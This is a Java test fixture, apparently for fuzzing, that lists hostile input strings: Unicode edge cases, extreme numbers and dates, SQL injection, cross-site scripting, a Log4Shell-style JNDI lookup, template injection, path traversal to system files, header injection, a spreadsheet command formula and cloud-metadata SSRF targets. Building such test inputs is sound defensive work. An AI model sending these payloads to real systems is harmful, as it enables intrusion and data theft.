package io.plenum.hostile;

import java.util.List;
import java.util.Random;

/** Texts that break what was not written for them. */
public final class HostileText {
  private static final List<String> ALL =
      List.of(
          "",
          " ",
          "\u0000",
          "before\u0000after",
          "\uD800",
          "half \uDC00 a pair",
          "\u202Egnp.exe",
          "\u200B\u200D\uFEFF",
          "e\u0301\u0301\u0301\u0301",
          "\uD83D\uDE00\uD83D\uDC69\u200D\uD83D\uDC67",
          "\uD840\uDC0B\uD869\uDED6",
          "\uFFFF\uFDD0",
          "\u0130\u0131\u1E9E",
          "\u2028\u2029\u0085\u000B\t\r\n",
          "\u001B[2J\u0007\u007F",
          "'; DROP TABLE account_user; --",
          "' OR '1'='1",
          "x') UNION SELECT password_hash FROM account_user --",
          "\" OR NEAR(\"a\" \"b\") *",
          "%' ESCAPE '",
          "%_\\%_\\",
          "$1 ? :name ?? @> <2>",
          "<script>alert(1)</script><img src=x onerror=alert(1)>",
          "\"><svg/onload=alert(1)>",
          "javascript:alert(1)",
          "${jndi:ldap://192.0.2.1/x} {{7*7}} #{7*7} <%= 7*7 %>",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "%2e%2e%2f%00%ff%c0%af",
          "x\r\nX-Injected: yes\r\n\r\n",
          "=cmd|' /C calc'!A0",
          "-1",
          "0",
          "00000000000000000000001",
          "9223372036854775808",
          "1e400",
          "NaN",
          "null",
          "true",
          "1970-01-01T00:00:00Z",
          "-999999999-01-01T00:00:00Z",
          "9999999999999-12-31T23:59:60+99:99",
          "0000-00-00T24:00:00Z",
          "a@b",
          "a@[127.0.0.1]",
          "\"a b\"@example.org",
          "a".repeat(64) + "@" + "b".repeat(300) + ".example",
          "https://169.254.169.254/",
          "https://[::ffff:127.0.0.1]:99999/",
          "FREQ=SECONDLY;COUNT=2147483648",
          "FREQ=YEARLY;BYMONTH=13;BYDAY=99MO",
          "x".repeat(201),
          "x".repeat(5_000),
          "\uD83D\uDE00".repeat(2_100),
          "((((((((((".repeat(100));

  private HostileText() {}

  public static String any(Random random) {
    return ALL.get(random.nextInt(ALL.size()));
  }
}
